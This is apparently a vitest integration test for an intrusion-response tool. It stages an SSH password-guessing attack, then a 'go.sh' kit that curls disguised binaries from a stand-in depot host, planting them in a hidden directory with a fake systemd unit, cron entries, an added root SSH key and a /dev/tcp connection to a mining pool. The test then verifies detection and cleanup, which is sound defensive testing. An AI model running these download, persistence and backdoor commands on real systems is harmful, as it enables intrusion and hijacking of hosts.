/** (a) Passwords are guessed over ssh until one fits; then a miner in parts is downloaded and planted in cron, systemd and root's keys. */
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacksKernel } from '../live/kernel.ts';
import { lacksScenario } from '../scenario-host.ts';
import { reported } from './report.ts';
import { attacker, depot, greeting, ordinaryLoad, pool, prove, type Scene, serveFiles, servePool, serveSsh, ssh, startScene } from './scene.ts';

const word = 'harbour2024';
const parts = ['journald-gc', 'auditd-flush', 'rsyslogd-net'];
const place = '/usr/lib/.sysmon';
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFvV0ZfVt1xq5n0yq0h3p6m1x8Yw2Lr7c9QbTt4uEeAa ops@backup';
/** What was there before, and stays. */
const own = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMbX2wqv0o1j4sJm7n8b3c5d6e7f8g9h0i1j2k3l4m5n harbour@desk', job = '5 4 * * 0 /usr/local/bin/nightly-report';

describe.skipIf(lacksScenario(['/usr/sbin/sshd', '/usr/bin/sshpass', '/usr/sbin/rsyslogd', '/usr/sbin/cron', '/usr/bin/socat', '/usr/bin/python3']) || await lacksKernel())('(a) brute force, log-on, download, split miner', () => {
  const kit = mkdtempSync(join(tmpdir(), 'moat-kit-'));
  let scene: Scene;

  beforeAll(async () => {
    scene = await startScene({ async ready(host) { await serveSsh(host, word); await ordinaryLoad(host); host.plant('/root/.ssh/authorized_keys', `${own}\n`, { mode: 0o600 }); await host.must('sh', '-c', 'printf "%s\\n" "$1" | crontab -', 'sh', job); } });
    // Its parts are shells of other names: the first starts the others, the last speaks to the pool.
    writeFileSync(join(kit, 'job'), `exec 3<>/dev/tcp/${pool}/3333\nprintf '%s\\n' '${greeting}' >&3\nwhile read -r line <&3; do :; done\n`);
    writeFileSync(join(kit, 'go.sh'), [
      '#!/bin/bash', `mkdir -p ${place}`, ...parts.map((part) => `curl -fsS http://${depot}/shell -o ${place}/${part}; chmod 755 ${place}/${part}`), `curl -fsS http://${depot}/job -o ${place}/job`,
      `printf '[Unit]\\nDescription=System monitor\\n[Service]\\nExecStart=${place}/journald-gc -c "${place}/auditd-flush -c \\\\"${place}/rsyslogd-net ${place}/job; true\\\\"; true"\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/sysmon.service`,
      'systemctl daemon-reload', 'systemctl enable --now sysmon.service',
      `printf '17 3 * * * root ${place}/journald-gc -c true\\n' > /etc/cron.d/sysmon`,
      `(crontab -l; printf '19 3 * * * ${place}/journald-gc -c true\\n') | crontab -`,
      `printf '%s\\n' '${key}' >> /root/.ssh/authorized_keys`, '',
    ].join('\n'));
    copyFileSync('/bin/bash', join(kit, 'shell'));
    await serveFiles(scene.host, kit);
    await servePool(scene.host);
  });
  afterAll(async () => {
    await scene?.end();
    rmSync(kit, { recursive: true, force: true });
  });

  it('is one incident from the first guess to the last key, and ends with its plan', async () => {
    const { host } = scene;
    const guesses = await Promise.all(Array.from({ length: 12 }, (_, i) => ssh(host, attacker, i % 2 ? 'root' : `guest${i}`, `wrong ${i}`, 'true')));
    expect(guesses.some(({ code }) => code === 0)).toBe(false);
    await scene.until('the guessing to be told', () => scene.watch.alerts.some(({ rule_id }) => rule_id === 'ssh_brute_force'));
    expect(await ssh(host, attacker, 'root', word, `cd /tmp && curl -fsS http://${depot}/go.sh -o go.sh && bash go.sh`)).toMatchObject({ code: 0 });
    const { incident, plan } = await prove(scene, {
      entry: { kind: 'login', address: attacker, user: 'root' }, level: 'critical', grade: 2,
      steps: [
        'freeze-tree process', `block-address ${attacker}`, `block-address ${depot}`, `block-address ${pool}`,
        'stop-unit unit sysmon.service', 'quarantine-file /etc/cron.d/sysmon', 'remove-line /var/spool/cron/crontabs/root', 'remove-line /root/.ssh/authorized_keys',
        'quarantine-file /tmp/go.sh', ...[...parts, 'job'].map((part) => `quarantine-file ${place}/${part}`), 'kill-tree process',
      ],
      checks: ['cron', 'systemd', 'ssh-keys'], running: /\.sysmon/,
      // crontab writes the date into the remarks above the jobs; the unit's name stays masked, with its file set aside.
      stays: [/^\/etc\/systemd\/system\/(?:sysmon\.service|\.moat-\w+sysmon\.service\.aside)$/, /^\/var\/spool\/cron\/crontabs\/root$/],
      after: () => { expect(readFileSync(join(host.root, 'var/spool/cron/crontabs/root'), 'utf8').split('\n').filter((line) => line !== '' && !line.startsWith('#'))).toEqual([job]); },
    });
    reported(scene, incident, plan, { says: [attacker, depot, pool, 'sysmon.service', '/etc/cron.d/sysmon', `${place}/job`] });
  });
});
